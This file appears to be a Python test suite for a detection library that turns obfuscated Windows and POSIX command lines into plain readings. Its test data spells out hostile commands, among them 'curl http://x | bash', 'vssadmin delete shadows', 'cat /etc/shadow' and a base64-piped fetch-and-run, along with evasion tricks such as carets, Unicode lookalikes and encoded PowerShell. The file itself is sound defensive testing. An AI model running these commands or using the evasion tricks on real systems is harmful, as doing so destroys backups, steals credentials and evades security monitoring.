"""Disguises undone: one clean reading for each, and time in step with the length."""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.core.detections import plain


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


DISGUISED = {
    "carets": ("po^wer^shell -^nop", "powershell -nop"),
    "quotes in a word": ('po"wer"shell -nop', "powershell -nop"),
    "empty quotes": ('powershe""ll -n""op', "powershell -nop"),
    "backticks": ("power`shell -no`p", "powershell -nop"),
    "single quotes": ("i'e'x stuff", "iex stuff"),
    "fullwidth letters": (
        "".join(chr(ord(letter) + 0xFEE0) for letter in "powershell") + " -nop",
        "powershell -nop",
    ),
    "mathematical letters": ("\U0001d429\U0001d428wershell -nop", "powershell -nop"),
    "enclosed letters": ("\u24df\u24de\u24e6ershell -nop", "powershell -nop"),
    "raised letters": ("powershel\u02e1 -n\u1d52p", "powershell -nop"),
    "a dash of another kind": ("powershell \u2013nop", "powershell -nop"),
    "a horizontal bar": ("powershell \u2015nop", "powershell -nop"),
    "quotes of another kind": ("powershell \u201c-nop\u201d", "powershell -nop"),
    "invisible characters": ("power\u200bshell -n\u00adop", "powershell -nop"),
    "runs of blanks": ("vssadmin    delete\t\tshadows", "vssadmin delete shadows"),
    "blanks of another kind": ("vssadmin\u00a0delete\u2003shadows", "vssadmin delete shadows"),
    "slashes in a path": ("C:/Windows/System32/cmd.exe", "C:\\Windows\\System32\\cmd.exe"),
    "slashes in a relative path": ("copy a/b.exe c", "copy a\\b.exe c"),
    "a folder that is itself": ("C:\\Windows\\.\\System32\\cmd.exe", "C:\\Windows\\System32\\cmd.exe"),
    "doubled separators": ("C:\\\\Windows\\\\\\System32\\cmd.exe", "C:\\Windows\\System32\\cmd.exe"),
    "a way up": ("C:\\Windows\\Temp\\..\\System32\\cmd.exe", "C:\\Windows\\System32\\cmd.exe"),
    "pieces put together": ("('Down'+'load' + 'String')", "(DownloadString)"),
    "a slash before a switch": ("schtasks /create /tn x", "schtasks -create -tn x"),
}


@pytest.mark.parametrize("name", DISGUISED)
def test_a_disguised_line_has_a_clean_reading(name: str) -> None:
    given, wanted = DISGUISED[name]
    assert wanted in plain.windows_command(given)[0]


@pytest.mark.parametrize(
    "line",
    [
        "schtasks -create",  # never a dash to a slash: that fires on what nobody wrote
        "curl http://contoso.example/a/b",
        "\\\\server\\share\\tool.exe",
        "powershell -nop -w hidden",
    ],
)
def test_a_clean_line_has_no_other_reading(line: str) -> None:
    assert plain.windows_command(line) == ((), False)


@pytest.mark.parametrize("switch", ["-e", "-ec", "-enc", "-EncodedCommand", "/enc", "-e^nc", "\u2013enc"])
def test_an_encoded_command_is_appended(switch: str) -> None:
    line = f"powershell -nop {switch} {encoded('whoami /priv')}"
    readings, was_cut = plain.windows_command(line)
    assert any(reading.startswith("powershell -nop") and "whoami /priv" in reading for reading in readings)
    assert not was_cut


def test_what_is_encoded_is_cleaned_too_and_may_be_nested() -> None:
    inner = f"powershell -enc {encoded('I`nvoke-Expr`ession x')}"
    readings, _ = plain.windows_command(f"powershell -enc {encoded(inner)}")
    assert any("Invoke-Expression x" in reading for reading in readings)


def test_a_long_encoded_command_is_decoded_whole_and_hides_nothing_behind_it() -> None:
    script = "$a = 1; " * 900 + "Start-Evil"
    line = f"powershell -enc {encoded(script)} -noexit"
    assert len(line) > 2 * plain.MAX_TEXT
    readings, _ = plain.windows_command(line)
    assert any("Start-Evil" in reading and "-noexit" in reading for reading in readings)


def test_padding_with_blanks_hides_nothing() -> None:
    readings, was_cut = plain.windows_command("vssadmin" + " " * 30_000 + "delete shadows")
    assert "vssadmin delete shadows" in readings
    assert not was_cut


@pytest.mark.parametrize("line", ["evil.exe " + "a b " * 9_000, "a b " * 9_000 + "evil.exe"])
def test_of_a_line_that_is_too_long_both_ends_are_read_and_it_is_said(line: str) -> None:
    readings, was_cut = plain.windows_command(line)
    assert was_cut
    assert all("evil.exe" in reading for reading in readings)
    assert all(len(reading) <= plain.MAX_TEXT + 1 for reading in readings)


@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        ("c\\url http://x | b\\ash", "curl http://x | bash"),
        ("c''url http://x", "curl http://x"),
        ('w"ge"t http://x', "wget http://x"),
        ("cat${IFS}/etc/shadow", "cat /etc/shadow"),
        ("cat$IFS$9/etc/shadow", "cat /etc/shadow"),
    ],
)
def test_a_posix_line_has_a_clean_reading(line: str, wanted: str) -> None:
    assert wanted in plain.posix_command(line)[0]


def test_what_a_posix_line_decodes_is_appended() -> None:
    code = base64.b64encode(b"curl http://203.0.113.9/x | sh").decode()
    readings, _ = plain.posix_command(f"echo {code} | base64 -d | sh")
    assert any("curl http://203.0.113.9/x | sh" in reading for reading in readings)


@pytest.mark.parametrize(
    ("path", "wanted"),
    [
        ("C:/Windows/System32/cmd.exe", "C:\\Windows\\System32\\cmd.exe"),
        ("\\\\?\\C:\\Windows\\cmd.exe", "C:\\Windows\\cmd.exe"),
        ("\\??\\C:\\Windows\\cmd.exe", "C:\\Windows\\cmd.exe"),
        ("C:\\Windows\\.\\a\\..\\cmd.exe", "C:\\Windows\\cmd.exe"),
        ("\\\\server\\share\\a.exe", "\\\\server\\share\\a.exe"),
    ],
)
def test_a_windows_path_is_read_as_windows_does(path: str, wanted: str) -> None:
    assert plain.windows_path(path) == wanted


HOSTILE = [
    "a", " ", "^", '"', "'+'", "a/", "/a ", "\\", "\\.", "\\..", "\\a\\..", "-enc ", "-e AAAAAAAAAAAAAAAA ",
    "\uff50", "\ufdfa", "\uff50\ufdfa",
    "\u200b", "\u00a0a", "$IFS", "echo AAAAAAAAAAAAAAAA | base64 -d ", "frombase64string('A'",
]  # fmt: skip


@pytest.mark.parametrize("piece", HOSTILE)
@pytest.mark.parametrize("read", [plain.windows_command, plain.posix_command, plain.windows_path])
def test_no_line_takes_long(piece: str, read: object) -> None:
    assert callable(read)
    line = piece * (200_000 // len(piece))
    began = time.thread_time()  # other threads of this worker have stacks of other tests to serve
    read(line)
    assert time.thread_time() - began < 1.0  # a quadratic step takes many seconds here


@given(st.text(max_size=200))
def test_readings_differ_from_the_text_and_end_soon(text: str) -> None:
    for read in (plain.windows_command, plain.posix_command):
        readings, _ = read(text)
        assert text not in readings
        assert len(readings) <= 2
